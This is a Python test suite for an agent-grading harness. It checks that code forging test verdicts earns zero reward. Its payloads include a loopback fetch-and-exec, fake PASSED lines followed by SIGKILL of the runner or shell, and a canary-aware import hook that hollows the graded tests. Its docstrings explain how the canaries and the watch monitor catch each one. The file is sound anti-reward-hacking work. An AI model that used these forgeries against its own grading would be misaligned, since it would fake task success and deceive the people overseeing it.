"""The abuse suite, verdict forging: code under test that rewrites, from inside the test process,
what the runner reports (a stdout filter in a Go ``init`` or a Rust process constructor, no-op
``node:assert`` methods, a Python import hook hollowing the tests, pytest's run method swapped by
compiled code). Each case first shows, in the agent's own sandbox, that the payload turns a failing
control test green; the grading must still pay nothing, and say why (``verdict_tampered``), in
both sandboxes. Then the loopback case: with network on, a service on the host's loopback."""

from __future__ import annotations

import socket
import threading

import pytest

from ha_envs.grading.grader import Grader
from ha_envs.grading.sandboxes import docker_sandbox_factory, local_sandbox_factory

from .abuse_helpers import episode, kind  # noqa: F401
from .verdict_payloads import HOLLOW_IMPORTS, forges

pytestmark = pytest.mark.abuse

FORGES = forges()


def assert_tampered(reward: float, info: dict) -> dict:
    """Reward 0, graded as the agent's doing (not masked), the canaries or the exit status said so."""
    grade = info.get("grade") or {}
    assert reward == 0.0, grade
    assert info["mask_sample"] is False, info
    assert "verdict_tampered" in grade["flags"], (grade["status"], grade["tampering"], grade["log_tail"][-1500:])
    assert grade["status"] in ("verdict_tampered", "tests_tampered")
    if grade["status"] == "verdict_tampered":
        assert info["termination"] == "verdict_tampered"
    return grade


@pytest.mark.parametrize("name", sorted(FORGES))
def test_forged_verdicts_earn_nothing(kind, name):
    forge = FORGES[name]
    reward, info, out = episode(kind, forge.commands(), task=forge.task)
    assert forge.live_sign in out[-1], out[-1]  # the payload does forge a pass in the agent's runs
    grade = assert_tampered(reward, info)
    assert "suspicious" in grade["flags"], grade["suspicion"]
    assert "<canary>" in grade["log_tail"] or any("canary" in r for r in grade["tampering"])
    assert "<canary>" not in info["patch"]


def test_canaries_never_reach_the_agent(kind):
    """The gold patch still resolves with canaries in, and nothing the agent saw or submitted names
    one: they exist only in the grading sandbox."""
    from ha_envs.loaders import load_suite

    task = next(t for t in load_suite("mini") if t.instance_id == "mini__ttl_cache")
    reward, info, out = episode(kind, [f"cat > /tmp/gold.patch <<'HA_EOF'\n{task.gold_patch}\nHA_EOF",
                                       "git apply /tmp/gold.patch && grep -rc 'def test_' tests/ | sort"], task=task)
    assert reward == 1.0 and info["termination"] == "submitted", info.get("grade")
    grade = info["grade"]
    assert grade["flags"] == [] and "<canary>" in grade["log_tail"]
    assert set(grade["fail_to_pass"]) == set(task.tests.fail_to_pass)
    assert set(grade["pass_to_pass"]) == set(task.tests.pass_to_pass)
    assert "test_expiry" not in out[-1]  # the hidden file is not even in the agent's copy


# -- loopback ------------------------------------------------------------------------------------

class LoopbackService:
    """A service on the host's loopback that hands out a verdict forgery to whoever connects."""

    def __init__(self, payload: bytes) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self.payload = payload
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.hits += 1
            with conn:
                conn.sendall(self.payload)

    def close(self) -> None:
        self.sock.close()


FETCH = '''
import socket as _so
try:
    _c = _so.create_connection(("127.0.0.1", {port}), timeout=2)
    _code = b"".join(iter(lambda: _c.recv(65536), b""))
    exec(compile(_code.decode(), "<svc>", "exec"), {{}})
except OSError:
    pass
'''


def _loopback_forgery(kind: str, network_namespace: str = "auto"):
    """With network on, the patch fetches a forgery (pytest's run method emptied) from a service on
    the host's loopback; (reward, info, the service's hits)."""
    from ha_envs.sandbox.local import LocalSandboxConfig

    from .verdict_payloads import RUNTEST_SRC

    svc = LoopbackService(("import sys\nif 'pytest' in sys.modules:\n    " + RUNTEST_SRC.replace("\n", "\n    ")).encode())
    try:
        factory = (docker_sandbox_factory(network=True) if kind == "docker" else
                   local_sandbox_factory(LocalSandboxConfig(network_namespace=network_namespace), network=True))
        code = FETCH.format(port=svc.port)
        reward, info, _ = episode(kind, [f"cat >> ttlcache/__init__.py <<'HA_EOF'\n{code}\nHA_EOF"],
                                  grader=Grader(factory))
        return reward, info, svc.hits
    finally:
        svc.close()


def test_a_service_on_the_host_loopback_is_out_of_reach_of_a_grading_with_network(kind):
    """A Docker grading has a loopback of its own; a local one with network has a network namespace
    of its own (slirp4netns, ``sandbox/netns.py``): neither reaches the host's loopback."""
    from tests.conftest import require_tool

    if kind == "local":
        require_tool("slirp4netns")
    reward, info, hits = _loopback_forgery(kind)
    grade = info["grade"]
    assert reward == 0.0 and info["mask_sample"] is False, grade
    assert hits == 0 and grade["status"] == "unresolved", (hits, grade)
    assert "suspicious" in grade["flags"]


def test_in_the_hosts_namespace_the_loopback_is_reached_and_the_canaries_still_hold():
    """``network_namespace="host"`` (the fallback without slirp4netns) grades in the host's network
    namespace: the grading does reach the service, and the canaries make its forgery worth nothing."""
    from tests.conftest import require_bwrap

    require_bwrap()
    reward, info, hits = _loopback_forgery("local", network_namespace="host")
    grade = info["grade"]
    assert reward == 0.0 and info["mask_sample"] is False, grade
    assert hits >= 1 and "verdict_tampered" in grade["flags"], (hits, grade)


def test_without_network_the_local_grading_cannot_reach_the_loopback_service(kind):
    svc = LoopbackService(b"raise SystemExit(0)\n")
    try:
        code = FETCH.format(port=svc.port)
        reward, info, _ = episode(kind, [f"cat >> ttlcache/__init__.py <<'HA_EOF'\n{code}\nHA_EOF"])
        assert reward == 0.0 and svc.hits == 0, info.get("grade")
    finally:
        svc.close()


def patch_of(source_dir, path: str, text: str, tmp_path) -> str:
    """The diff of writing ``text`` in a copy of ``source_dir`` (``>>path``: appending to it)."""
    import shutil
    import subprocess

    repo = tmp_path / "repo"
    shutil.copytree(source_dir, repo)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "init", "-q"], cwd=repo, check=True)
    subprocess.run([*git, "add", "-A"], cwd=repo, check=True)
    subprocess.run([*git, "commit", "-qm", "base"], cwd=repo, check=True)
    with open(repo / path.removeprefix(">>"), "a" if path.startswith(">>") else "w") as f:
        f.write(text)
    subprocess.run([*git, "add", "-A"], cwd=repo, check=True)  # a new file is in the diff too
    return subprocess.run([*git, "diff", "--cached"], cwd=repo, check=True, capture_output=True, text=True).stdout


@pytest.mark.parametrize("name", ["python-import-hook-hollows-tests", "js-assert-methods-no-ops"])
def test_the_canaries_are_what_stops_a_forgery_the_guards_miss(tmp_path, name):
    """Graded without canaries (and without the watch, which sees the Python one too), these
    forgeries earn 1.0 (the issue's finding); with the canaries, nothing."""
    from tests.conftest import require_bwrap

    require_bwrap()
    from ha_envs.loaders import load_suite

    forge = FORGES[name]
    task = next(t for t in load_suite("mini") if t.instance_id == forge.task)
    path, text = forge.files[0]
    patch = patch_of(task.source_dir, path, text, tmp_path)
    assert Grader(canaries=False, watch=False).grade(task, patch).reward == 1.0
    report = Grader(watch=False).grade(task, patch)
    assert report.reward == 0.0 and report.status == "verdict_tampered", report.tampering
    assert any("false assertion" in r for r in report.tampering)


_FORGE_THEN_KILL = """
import os as _os, signal as _sig, sys as _sys
for _t in ("test_clamp_high", "test_clamp_low"):
    _sys.stdout.write(f"PASSED tests/test_hidden.py::{{_t}}\\n")
_sys.stdout.flush()
if {shell}:
    _p = _os.getppid()
    while _p > 1 and open(f"/proc/{{_p}}/comm").read().strip() != "bash":
        _p = int(open(f"/proc/{{_p}}/stat").read().rsplit(")", 1)[1].split()[1])
    if _p > 1:
        _os.kill(_p, _sig.SIGKILL)
_os.kill(_os.getpid(), _sig.SIGKILL)
"""


@pytest.mark.parametrize("shell", [False, True], ids=["kills-its-runner", "kills-its-sandbox-shell"])
def test_forged_passes_then_a_sigkill_earn_nothing(tiny_task, tmp_path, shell):
    """No fix; the code under test prints PASSED lines for the hidden tests and then SIGKILLs the test
    runner (or the sandbox's shell, as if the host had killed the sandbox, which the grader answers by
    grading again): the runner killed under a live shell is graded as it stands, reward 0; the shell
    killed in both gradings gets no verdict at all (a grading error, masked), never a reward."""
    from ha_envs.grading import GradingError

    from tests.conftest import require_bwrap

    require_bwrap()
    patch = patch_of(tiny_task.source_dir, ">>calc.py", _FORGE_THEN_KILL.format(shell=shell), tmp_path / "p")
    if shell:
        with pytest.raises(GradingError, match="killed during the test run twice"):
            Grader().grade(tiny_task, patch)
    else:
        report = Grader().grade(tiny_task, patch)
        assert report.reward == 0.0 and not report.resolved, (report.status, report.tampering)
        assert "graded twice" not in report.error


# Canary-aware hollowing: the import hook above, but sparing test functions whose code names nothing
# beyond sum/max/len and pytest's assertion rewriting (the shape of every canary today), so the
# canaries run honestly while the graded tests come out empty.
_SPARE = ("{'sum', 'max', 'len', 'locals', '_saferepr', '_format_explanation', '_call_reprcompare', "
          "'_should_repr_global_name', 'AssertionError'}")
CANARY_AWARE = HOLLOW_IMPORTS.replace(
    'if key.startswith("test") and isinstance(value, _ty.FunctionType):',
    'if key.startswith("test") and isinstance(value, _ty.FunctionType) and not '
    "{n for n in value.__code__.co_names if n[0] != '@'} <= " + _SPARE + ":")


def test_a_forgery_that_recognises_the_canaries_earns_nothing(tmp_path):
    """Found 2026-12-05: the drawn canaries' bodies tell them apart, and this forgery spares them.
    Since grader 9 two checks catch it, each alone: the twin canaries (copies of the file's passing
    tests, which it hollows too: the turned one passes) and the watch (its import hook reads the
    tests' code and sources, which the gold patch's run never does)."""
    from tests.conftest import require_bwrap

    require_bwrap()
    from ha_envs.loaders import load_suite

    assert CANARY_AWARE != HOLLOW_IMPORTS  # the payload really is the selective one
    task = next(t for t in load_suite("mini") if t.instance_id == "mini__ttl_cache")
    patch = patch_of(task.source_dir, ">>ttlcache/__init__.py", CANARY_AWARE, tmp_path)
    assert Grader(canaries=False, watch=False).grade(task, patch).reward == 1.0  # the forgery does work
    twins = Grader(watch=False).grade(task, patch)
    assert twins.reward == 0.0 and any("turned round" in r for r in twins.tampering), twins.tampering
    watched = Grader(canaries=False).grade(task, patch)
    assert watched.reward == 0.0 and "import_hook" in watched.watch and watched.watch_reference == []
    report = Grader().grade(task, patch)
    assert report.reward == 0.0 and report.status == "verdict_tampered", (report.status, report.tampering)
